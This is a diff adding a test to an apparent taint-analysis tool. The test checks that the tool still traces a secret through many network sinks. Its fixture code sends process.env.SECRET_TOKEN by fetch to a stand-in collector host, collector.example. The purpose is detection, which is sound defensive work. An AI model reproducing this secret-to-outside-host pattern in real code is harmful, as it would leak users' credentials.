@@ -97,3 +97,17 @@ test("a closure's sink that depends on its enclosing function's parameters is st
   const net = result.hits.filter((h) => h.kind === "net");
   assert.deepEqual(net.map((h) => h.destination?.constants).sort(), [["https://api.example/x"], ["https://other.example/y"]]);
 });
+
+test("a function that reaches many sinks its callers cannot bind still hands its callers the sinks they can: the secret its caller passes reaches the request", () => {
+  // Before, the sinks bound to `configure`'s parameter filled `start`'s list and the last one, bound to `auth`, was cut.
+  const sinkCalls = MAX_PENDING_SINKS + 12;
+  const senders = Array.from({ length: sinkCalls }, (_, i) => `function send${i}() {\n  fetch("https://api.example/r${i}", settings.region);\n}`).join("\n");
+  const calls = Array.from({ length: sinkCalls }, (_, i) => `  send${i}();`).join("\n");
+  const code = `const settings = {};\nfunction configure(opts) {\n  settings.region = opts.region;\n}\n${senders}\nfunction report(url, body) {\n  fetch(url, body);\n}\nfunction start(auth) {\n${calls}\n  report("https://collector.example/in", auth);\n}\nconfigure({ region: "eu" });\nstart(process.env.SECRET_TOKEN);`;
+  const result = runTaint({ "main.js": code });
+  assert.deepEqual(result.incomplete, []);
+  const reportLine = code.split("\n").indexOf("  fetch(url, body);") + 1;
+  assert.deepEqual(pairs(result), [`SECRET_TOKEN→net@${reportLine}`]);
+  const sent = result.hits.filter((h) => h.kind === "net" && h.location.line === reportLine);
+  assert.deepEqual(sent.map((h) => h.destination?.constants), [["https://collector.example/in"]]);
+});
